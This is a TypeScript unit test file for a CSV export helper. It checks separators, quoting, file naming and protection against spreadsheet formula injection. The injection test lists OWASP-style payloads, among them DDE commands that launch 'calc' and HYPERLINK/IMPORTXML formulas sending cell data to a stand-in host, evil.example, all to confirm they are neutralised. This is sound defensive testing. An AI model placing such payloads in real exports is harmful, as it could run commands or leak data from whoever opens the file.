import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { type CsvColumn, csvFileName, toCsv } from './csv';

interface Row {
  name: string;
  note: string | null;
  price: number;
}

const columns: CsvColumn<Row>[] = [
  { header: 'Nombre', value: (r) => r.name },
  { header: 'Nota', value: (r) => r.note },
  { header: 'Precio', value: (r) => `USD $${r.price.toFixed(2).replace('.', ',')}` },
];

describe('toCsv', () => {
  it('starts with a BOM, separates with ";" and heads the columns in Spanish', () => {
    const text = toCsv([{ name: 'Fibra Óptica 100', note: 'Hogar', price: 25.5 }], columns);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1).split('\r\n')).toEqual([
      'Nombre;Nota;Precio',
      'Fibra Óptica 100;Hogar;USD $25,50',
      '',
    ]);
  });

  it('quotes separators, quotes and line breaks, and writes a missing value as empty', () => {
    const rows: Row[] = [
      { name: 'Plan; empresas', note: 'Dice "rápido"', price: 1 },
      { name: 'Dos\nlíneas', note: null, price: 2 },
    ];
    const text = toCsv(rows, columns);
    expect(text).toContain('"Plan; empresas";"Dice ""rápido""";USD $1,00');
    expect(text).toContain('"Dos\nlíneas";;USD $2,00');
    // Read back, the cells are what went in.
    const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';' }).data;
    expect(parsed[1]).toEqual(['Plan; empresas', 'Dice "rápido"', 'USD $1,00']);
    expect(parsed[2]).toEqual(['Dos\nlíneas', '', 'USD $2,00']);
  });

  it('writes a cell that Excel would run as a formula as text', () => {
    const text = toCsv([{ name: '=HYPERLINK("x")', note: '@SUM(A1)', price: 0 }], columns);
    expect(text).toContain(`"'=HYPERLINK(""x"")";"'@SUM(A1)";`);
  });

  it("neutralises OWASP's formula payloads at a cell's start and after each line break in it", () => {
    const payloads = [
      '=1+1',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?d="&A1;"Ver")',
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    ];
    const cells = payloads.flatMap((payload) => [
      payload,
      `Recarga anulada\n${payload}`,
      `Recarga anulada\r\n${payload}`,
      `Recarga anulada\r${payload}`,
      `${payload}\n${payload}`,
    ]);
    const rows: Row[] = cells.map((cell) => ({ name: cell, note: 'Hogar', price: 1 }));
    const parsed = Papa.parse<string[]>(toCsv(rows, columns).slice(1), {
      delimiter: ';',
      newline: '\r\n',
    }).data.slice(1, -1);
    expect(parsed).toHaveLength(cells.length);
    for (const [i, cell] of cells.entries()) {
      const written = parsed[i]?.[0] ?? '';
      // No line of the cell starts a formula: each one that would is marked as text by a "'".
      for (let at = 0; at < written.length; at++) {
        const lineStart = at === 0 || written[at - 1] === '\n' || written[at - 1] === '\r';
        expect(
          lineStart && /[=+\-@\t\r]/.test(written[at] as string),
          JSON.stringify(written),
        ).toBe(false);
      }
      // Nothing else changed: without those marks it is the cell as it was.
      expect(written.replace(/(^|[\r\n])'/g, '$1')).toBe(cell);
      expect(parsed[i]?.slice(1)).toEqual(['Hogar', 'USD $1,00']);
    }
  });

  it('leaves text and numbers that start no formula as they are', () => {
    const text = toCsv(
      [{ name: 'a-b = c', note: "l'eau\nmás", price: -2 }],
      [...columns, { header: 'Saldo', value: (r) => r.price }],
    );
    expect(text).toContain(`a-b = c;"l'eau\nmás";USD $-2,00;-2`);
  });

  it('writes only the header line for no rows', () => {
    expect(toCsv([], columns)).toBe('\uFEFFNombre;Nota;Precio\r\n');
  });
});

describe('csvFileName', () => {
  it('says what and the local date', () => {
    expect(csvFileName('campanas', new Date(2026, 10, 3, 23, 59))).toBe('campanas-2026-11-03.csv');
  });
});
